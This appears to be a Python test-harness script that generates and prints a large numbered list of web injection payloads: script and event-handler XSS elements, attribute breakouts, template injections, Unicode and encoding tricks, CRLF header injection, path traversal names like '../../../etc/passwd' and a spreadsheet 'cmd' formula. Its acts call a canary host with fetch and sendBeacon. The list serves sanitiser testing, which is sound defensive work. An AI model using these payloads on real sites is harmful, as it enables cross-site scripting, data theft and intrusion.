"""The words that foreign people might send instead of their names: payloads.py prints them, one a line, as JSON.

Each is one way in (how text might leave the place where it stands) with one act (what it would do there), or a whole one of its kind.
Acts are calls of `pwn` and requests to CANARY; both carry the payload's number, so that what happened tells which one did it.
"""
import base64
import json
import os
import urllib.parse

# Placeholders: JS is the call, URL the address that nobody may ask for.
JS, URL = "pwn(%NO%)", "http://%CANARY%/%NO%"

ELEMENTS = [
    "<script>JS</script>", "<SCRIPT>JS</SCRIPT>", "<ScRiPt >JS</ScRiPt >", "<script/x>JS</script>", "<script\n>JS</script>",
    "<script src=URL></script>", "<script src=//%CANARY%/%NO%></script>", "<script type=module>JS</script>",
    "<script>JS//", "<<script>JS//<</script>", "<scr<script>ipt>JS</scr</script>ipt>", "<script>/*</p>*/JS</script>",
    "<img src=x onerror=JS>", "<img src=x onerror=\"JS\">", "<img src='x' onerror='JS'>", "<IMG SRC=x ONERROR=JS>", "<img/src=x/onerror=JS>",
    "<img\tsrc=x\tonerror=JS>", "<img src=x\nonerror=JS>", "<img src=x onerror=JS//", "<img src=URL>", "<img srcset='URL 1x'>",
    "<image src=x onerror=JS>", "<img src=x onerror=&#112;wn(%NO%)>", "<img src=x onerror=eval(atob('%B64%'))>",
    "<body onload=JS>", "<body onpageshow=JS>", "<body background=URL>", "<body onresize=JS>", "<html onmouseover=JS>",
    "<svg onload=JS>", "<svg/onload=JS>", "<svg><script>JS</script></svg>", "<svg><script href=URL /></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><set onbegin=JS attributename=x dur=1s>", "<svg><image href=URL /></svg>",
    "<svg><use href='data:image/svg+xml;base64,%SVG64%#x' /></svg>", "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>", "<svg><title><img src=x onerror=JS></title></svg>",
    "<svg><a xlink:href='javascript:JS'><text y=20>weiter</text></a></svg>", "<svg><feImage href=URL /></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=JS>]]></svg>",
    "<math><mtext><img src=x onerror=JS></mtext></math>", "<math href='javascript:JS'>weiter</math>",
    "<math><mi xlink:href='data:x,<script>JS</script>'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    "<iframe src=URL></iframe>", "<iframe src='javascript:JS'></iframe>", "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe srcdoc=\"<img src=x onerror=parent.JS>\"></iframe>", "<iframe onload=JS></iframe>",
    "<iframe src='data:text/html,<script>parent.JS</script>'></iframe>", "<frameset onload=JS><frame src=URL></frameset>",
    "<object data=URL></object>", "<object data='javascript:JS'></object>", "<object data='data:text/html;base64,%HTML64%'></object>",
    "<embed src=URL>", "<embed src='javascript:JS'>", "<applet code=URL></applet>",
    "<video src=x onerror=JS></video>", "<video><source onerror=JS></video>", "<video poster=URL></video>", "<video src=URL autoplay></video>",
    "<audio src=x onerror=JS>", "<audio src=URL autoplay>", "<track src=URL>", "<video><track default src=URL></video>",
    "<input autofocus onfocus=JS>", "<select autofocus onfocus=JS>", "<textarea autofocus onfocus=JS>", "<button autofocus onfocus=JS>",
    "<details open ontoggle=JS>", "<marquee onstart=JS>", "<dialog open><form method=dialog><button autofocus onfocus=JS>",
    "<a href='javascript:JS'>weiter</a>", "<a href='JaVaScRiPt:JS'>weiter</a>", "<a href='java\tscript:JS'>weiter</a>",
    "<a href='&#106;avascript:JS'>weiter</a>", "<a href='\x01javascript:JS'>weiter</a>", "<a href='data:text/html,<script>JS</script>'>weiter</a>",
    "<a href=URL ping=URL>weiter</a>", "<area href='javascript:JS'>", "<a href='vbscript:msgbox(%NO%)'>weiter</a>",
    "<form action='javascript:JS'><button autofocus>weiter</button></form>", "<button formaction='javascript:JS'>weiter</button>",
    "<form action=URL><input name=geheim><button>weiter</button></form>", "<input type=image src=URL>", "<input type=image src=x onerror=JS>",
    "<isindex action='javascript:JS' type=image>", "<keygen autofocus onfocus=JS>",
    "<meta http-equiv=refresh content='0;url=URL'>", "<meta http-equiv=refresh content='0;url=data:text/html;base64,%HTML64%'>",
    "<meta http-equiv=refresh content='0;url=javascript:JS'>", "<meta http-equiv=set-cookie content='eingang=fremd'>",
    "<meta http-equiv=content-security-policy content=\"default-src *\">", "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href=URL>", "<link rel=icon href=URL>", "<link rel=prefetch href=URL>", "<link rel=preload as=image href=URL>",
    "<link rel=modulepreload href=URL>", "<link rel=manifest href=URL>", "<link rel=preconnect href=URL>", "<link rel=import href=URL>",
    "<base href='http://%CANARY%/'>", "<base target=_blank>",
    "<style>@import 'URL';</style>", "<style>*{background:url(URL)}</style>", "<style>main{display:none}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>", "<style>input[name=mark][value^=a]{background:url(URL)}</style>",
    "<style onload=JS></style>", "<style><!--</style><img src=x onerror=JS>", "<style>*{animation:x 1s}@keyframes x{}</style><b onanimationstart=JS>x</b>",
    "<b style=background:url(URL)>x</b>", "<b style='width:expression(JS)'>x</b>", "<div style=position:fixed;inset:0;background:#fff>Bitte anrufen</div>",
    "<b style=animation-name:x onanimationend=JS>x</b>", "<xss contenteditable autofocus onfocus=JS>x</xss>", "<x tabindex=1 autofocus onfocus=JS>",
    "<template><script>JS</script></template>", "<noscript><p title='</noscript><img src=x onerror=JS>'>", "<noembed><img src=x onerror=JS></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=JS>'>", "<plaintext>", "<listing>&lt;img src=x onerror=JS&gt;</listing>",
    "<table background=URL><td background=URL>", "<table><img src=x onerror=JS></table>", "<select><script>JS</script></select>",
    "<option><style></option></select><img src=x onerror=JS></style>", "<title><img src=x onerror=JS></title>", "<!--><img src=x onerror=JS>-->",
    "<!--<img src='--><img src=x onerror=JS//'>", "<![CDATA[<img src=x onerror=JS>]]>", "<?xml version='1.0'?><img src=x onerror=JS>",
    "<?xml-stylesheet href='javascript:JS'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'URL'>]><x>&y;</x>", "<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
    "<slot onslotchange=JS><b slot=x></slot>", "<portal src=URL></portal>", "<fencedframe src=URL></fencedframe>",
    "<h1>Ihr Kennwort ist abgelaufen</h1>", "<main>Fremdes</main>", "</main></body></html><script>JS</script>", "<form method=post action=/abmelden>",
    "<input name=mark value=fremd>", "<input name=version value=0>", "<p id=inhalt>", "<div role=alert>Alles gelöscht</div>",
    "<a id=location name=document href=URL>x</a>", "<img name=getElementById>", "<form id=document><input name=body>", "<embed name=cookie>",
]
# How text might leave the place where it stands.
BREAKOUTS = [
    "\"><img src=x onerror=JS>", "'><img src=x onerror=JS>", "\" onmouseover=JS x=\"", "' onmouseover=JS x='", "\" autofocus onfocus=JS x=\"",
    "' autofocus onfocus=JS x='", " onfocus=JS autofocus ", "` onfocus=JS autofocus `", "\" style=\"background:url(URL)\" x=\"",
    "\"><script>JS</script>", "\"/><svg onload=JS>", "\"></a><script>JS</script><a href=\"", "javascript:JS", "javascript:JS//http://x.example/",
    "\x01javascript:JS", "data:text/html,<script>JS</script>", "</textarea><script>JS</script>", "</TEXTAREA ><img src=x onerror=JS>",
    "</title><script>JS</script>", "</style><script>JS</script>", "</script><script>JS</script>", "</noscript><script>JS</script>",
    "</select><script>JS</script>", "</option></select><svg onload=JS>", "</button></form><form action=URL><button>weiter", "</td></tr></table><script>JS</script>",
    "--><script>JS</script><!--", "--!><img src=x onerror=JS>", "]]><script>JS</script>", "*/JS/*", "';JS//", "\";JS//", "\\\";JS//", "\\';JS//",
    "`-JS-`", "${JS}", "\nJS\n//", "\u2028JS\u2029", "</p></section><h1>Fremdes</h1><section>", "\" hidden x=\"", "\" aria-hidden=\"true", "\" disabled x=\"",
    "\" form=\"fremd\" formaction=\"URL", "\"><base href='http://%CANARY%/'>", "\"><meta http-equiv=refresh content=\"0;url=URL\">", "'-JS-'", "\"-JS-\"",
]
# What a template might take for its own.
TEMPLATES = [
    "{{%NO%}}", "{{{content}}}", "{{{mark}}}", "{{mark}}", "{{&mark}}", "{{& content}}", "{{#cases}}x{{/cases}}", "{{/cases}}", "{{^isClerk}}x{{/isClerk}}",
    "{{>shell}}", "{{> fremd}}", "{{<layout}}", "{{$block}}x{{/block}}", "{{=<% %>=}}<%& mark %>", "{{=@ @=}}@{mark}@", "{{!", "{{! -- }}{{content}}", "{{.}}", "{{{.}}}",
    "}}{{{content}}}{{", "{{#content}}", "{{%NO%*%NO%}}", "{{constructor.constructor('JS')()}}", "${%NO%*%NO%}", "<%= %NO% %>", "<%- include('/etc/passwd') %>",
    "#{%NO%}", "@(%NO%)", "[[${%NO%}]]", "{%raw%}{{{mark}}}{%endraw%}", "{{mark}}\n{{mark}}", "{\u200b{mark}}", "&#123;&#123;mark}}", "%7B%7Bmark%7D%7D", "{{{{mark}}}}",
    "{{#with x}}{{mark}}{{/with}}", "\\{{mark}}", "{{mark", "mark}}", "{{person.password}}", "\\(mark)", "%@%@%n%s", "%1$s", "$(JS)", "`JS`",
]
# Letters that look like others, that turn lines round or that are none.
LETTERS = [
    "\u202e<script>JS</script>", "gnp.\u202eexe.antrag", "\u2066<img src=x onerror=JS>\u2069", "\u200f<svg onload=JS>", "\u200b<script>JS</script>",
    "<\u0000script>JS</script>", "<scr\u0000ipt>JS</script>", "\u0000<img src=x onerror=JS>", "<img src=x onerror\u0000=JS>", "\ufeff<script>JS</script>",
    "＜script＞JS＜/script＞", "‹script›JS‹/script›", "\u02bascript\u02ba onfocus=JS", "ʺ onmouseover=JS x=ʺ", "＂ onfocus=JS autofocus ＂", "\uff1cimg src=x onerror=JS\uff1e",
    "\u3008script\u3009JS", "\u2039img src=x onerror=JS\u203a", "<script\u00a0>JS</script>", "<script\u2003>JS</script>", "<img\u000csrc=x\u000conerror=JS>",
    "<img\u000bsrc=x onerror=JS>", "<ſcript>JS</ſcript>", "<ımg src=x onerror=JS>", "\x1b[31mrot\x1b[0m<script>JS</script>", "\x08\x08\x08<script>JS</script>",
    "+ADw-script+AD4-JS+ADw-/script+AD4-", "+ADw-img src=x onerror=JS+AD4-", "\\u003cscript\\u003eJS\\u003c/script\\u003e", "\\x3cscript\\x3eJS\\x3c/script\\x3e",
    "\\74script\\76JS\\74/script\\76", "&lt;script&gt;JS&lt;/script&gt;", "&#60;script&#62;JS&#60;/script&#62;", "&#x3c;script&#x3e;JS&#x3c;/script&#x3e;",
    "&#0000060script&#0000062JS", "&amp;lt;script&amp;gt;JS", "&quot;&gt;&lt;img src=x onerror=JS&gt;", "%3Cscript%3EJS%3C/script%3E", "%253Cscript%253EJS",
    "%22%3E%3Cimg%20src=x%20onerror=JS%3E", "%00<script>JS</script>", "\u0161cript\u017eJS", "\xbcscript\xbeJS\xbc/script\xbe", "\x8f\x8f<script>JS</script>",
    "\ud7ff<script>JS</script>\ue000", "\U000e003cscript\U000e003eJS", "a\u0300" * 60 + "<script>JS</script>", "\U0001f469\u200d\U0001f469\u200d\U0001f467<script>JS</script>",
    "\r\nSet-Cookie: eingang=fremd", "\r\n\r\n<script>JS</script>", "x\r\nLocation: URL", "%0d%0aSet-Cookie:%20eingang=fremd", "x\r\nBcc: fremd@evil.example",
]
# Names that files might have; the rest of a way out of a folder.
FILES = [
    "../../../etc/passwd", "..\\..\\windows\\system32\\x.exe", "/etc/passwd", "C:\\x\\%NO%.pdf", "antrag.pdf\u0000.html", "antrag.pdf;.html", "antrag.pdf\";x=\".html",
    "antrag\u202efdp.exe", "antrag.pdf                                .exe", "<img src=x onerror=JS>.pdf", "\"><script>JS</script>.pdf", "';JS//.pdf", ".htaccess",
    "con.pdf", "a/b/c.pdf", "a?b#c.pdf", "a%2f..%2fb.pdf", "javascript:JS.pdf", "x.svg", "x.html", "x.xhtml", "x.mht", "x.js", "-rf.pdf", "$(JS).pdf", "`JS`.pdf", "|x.pdf",
    "&x=1&y.pdf", "a\r\nContent-Type: text/html\r\n\r\n.pdf", "=cmd|' /C calc'!A0", "+49(0)@x", "@SUM(1)", "\ufeff.pdf", ".", "..", " ", "~", "antrag.pdf/",
]
ACTS = [
    "new Image().src='URL'", "fetch('URL')", "navigator.sendBeacon('URL')", "location='URL'", "document.title='fremd'", "import('URL')", "window.open('URL')",
    "eval('JS')", "setTimeout('JS')", "new WebSocket('ws://%CANARY%/%NO%')", "document.forms[0].submit()", "document.body.innerHTML=''", "alert(%NO%)", "print()",
    "new Worker('URL')", "document.cookie='eingang=fremd'", "new EventSource('URL')", "Function('JS')()", "[].map.call`${JS}`", "parent.JS", "top['pwn'](%NO%)",
    "self[atob('cHdu')](%NO%)", "document.write('<script>JS</script>')", "history.pushState({},'','/fremd')",
]
WAYS = ["<script>JS</script>", "<img src=x onerror=\"JS\">", "\"><svg onload=\"JS\">", "<iframe srcdoc='<img src=x onerror=\"with(parent){JS}\">'></iframe>", "javascript:JS"]


def payloads(canary="127.0.0.1:9"):
    """All of them, each once, in an order that never changes: number, group, text; or every so many of them, if EINGANG_EVERY_ATTACK says so."""
    made = [("element", text) for text in ELEMENTS] + [("breakout", text) for text in BREAKOUTS] + [("template", text) for text in TEMPLATES]
    made += [("letters", text) for text in LETTERS] + [("file", text) for text in FILES]
    made += [("act", way.replace("JS", act)) for act in ACTS for way in WAYS]
    # What is hidden in another way of writing, for a place that takes it back once too often.
    made += [("twice", urllib.parse.quote(text)) for text in ELEMENTS[:20]] + [("twice", text.replace("<", "&lt;").replace(">", "&gt;")) for text in ELEMENTS[20:40]]
    made += [("long", "<script>JS</script>" * 400), ("long", "x" * 100_000 + "<script>JS</script>"), ("long", "<b>" * 2000), ("long", "\"><" * 3000), ("long", "{{" * 4000)]
    found = {}
    for group, text in made:
        found.setdefault(text, group)
    every = int(os.environ.get("EINGANG_EVERY_ATTACK", "1"))
    made = [{"number": number, "group": group, "text": filled(text, number, canary)} for number, (text, group) in enumerate(found.items(), 1)]
    return made[::every]


def filled(text, number, canary):
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='{JS}'/>"
    coded = {"%SVG64%": svg, "%HTML64%": f"<script>{JS}</script>", "%B64%": JS}
    for name, inner in coded.items():
        text = text.replace(name, base64.b64encode(placed(inner, number, canary).encode()).decode())
    return placed(text, number, canary)


def placed(text, number, canary):
    return text.replace("JS", JS).replace("URL", URL).replace("%NO%", str(number)).replace("%CANARY%", canary)


if __name__ == "__main__":
    for payload in payloads():
        print(json.dumps(payload))
